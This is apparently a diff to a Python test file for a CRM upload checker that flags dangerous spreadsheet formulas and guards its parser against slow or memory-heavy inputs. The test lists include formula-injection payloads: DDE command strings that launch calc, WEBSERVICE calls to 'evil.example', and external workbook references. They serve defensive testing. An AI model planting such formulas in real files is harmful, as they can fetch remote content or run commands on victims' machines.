@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import sys
 import time
+import tracemalloc
+from types import FrameType
+from typing import Any
 
 import pytest
 
 from crm.files.intake import check
-from crm.files.rules.formulas import fetches
+from crm.files.rules.formulas import fetches, table_fetches
 from tests.abuse.test_s30_documents import TEXT
 from tests.files import samples
 from tests.files.samples import refused
@@ -38,6 +42,14 @@ FETCHING = [
     "SUM('[3]Other sheet'!A1:A9)",
     "'http://evil.example/[a.xlsx]Sheet1'!$A$1",
     "[Book1.xlsx]Sheet1!A1",
+    """'a"'!A1&WEBSERVICE("http://evil.example/")""",
+    """'it''s "'!A1+RTD("prog.id",,"x")""",
+    "cmd|'/C calc '' !A0",
+    "cmd | topic !A0",
+    "'cmd|/c calc'!A0",
+    "'a.ods'#$Sheet1.A1",
+    """INDIRECT("'http://evil.example/[a.xlsx]Sheet1'!A1")""",
+    """"it's"&WEBSERVICE("http://evil.example/")""",
 ]
 HARMLESS = [
     'SUM(A1:A9)&"WEBSERVICE(1)"',
@@ -48,6 +60,10 @@ HARMLESS = [
     "[0]!Total",
     "'Sheet [old'!A1",
     "IMAGINARY(A1)+RECALL(2)",
+    "IF(A1='It''s a sheet'!B2,{1,2|3,4},0)",
+    'INDIRECT("A"&ROW())',
+    "SUM('[0]Sheet'!A1)",
+    "A1#+COUNT(B2#)",
 ]
 
 
@@ -133,6 +149,7 @@ def test_s33_no_cell_of_a_table_in_plain_text_does(mark: str) -> None:
     for formula in ('=WEBSERVICE("http://evil.example/")', " +cmd|'/c calc'!A0", "@[1]Sheet1!A1", "-RTD(1)"):
         quoted = '"' + formula.replace('"', '""') + '"'
         assert "A cell of the file is a formula" in refused(f"a{mark}{quoted}{mark}b\n".encode(), "a.csv")
+    assert "A cell of the file is a formula" in refused(f"sep=^\na^=RTD(1)^b{mark}\n".encode(), "a.csv")
     for cell in ("'=WEBSERVICE(1)", "call (us)", "=SUM(A1)", "see [1] Sheet!"):
         assert check(f"a{mark}{cell}\n".encode(), "a.csv")
     assert check(b"- call (with the minister)\n", "a.txt")
@@ -146,3 +163,44 @@ def test_s36_reading_formulas_takes_seconds_at_most() -> None:
     assert check(workbook(SHEET.format(f"<f>{long}</f>")), "a.xlsx")
     assert check(samples.docx({"word/a.xml": TEXT.format("<a/>" * 10_000)}), "a.docx")
     assert time.process_time() - begun < 20
+
+
+@pytest.mark.parametrize(
+    "piece", ["a", "a.", "a|", "|'", "'|", '"a', '""', "''", "['", "[[", "]", "[a]a ", "a.a(", "!", "'[", "!'", "#'"]
+)
+def test_s36_no_formula_takes_longer_than_its_length(piece: str) -> None:
+    """Steps of the interpreter, not seconds: ten times the length is about ten times the work."""
+    for tail in ("", "'", '"'):
+        assert _steps(piece * 5_000 + tail) < _steps(piece * 500 + tail) * 15 + 200
+
+
+def test_s36_a_large_table_takes_no_more_memory_than_its_size() -> None:
+    tracemalloc.start()
+    table_fetches('=RTD;"="' + "a" * 2_000_000)
+    _now, most = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert most < 60_000_000
+
+
+def _steps(formula: str) -> int:
+    """How many lines of Python a reading runs, and how many characters it compares."""
+    steps = 0
+
+    def count(frame: FrameType, event: str, _given: object) -> Any:
+        nonlocal steps
+        steps += event == "line"
+        return count
+
+    class Counted(str):
+        def find(self, sign: str, start: int = 0) -> int:  # type: ignore[override]
+            nonlocal steps
+            found = str.find(self, sign, start)
+            steps += (found if found >= 0 else len(self)) - start
+            return found
+
+    sys.settrace(count)
+    try:
+        fetches(Counted(formula))
+    finally:
+        sys.settrace(None)
+    return steps
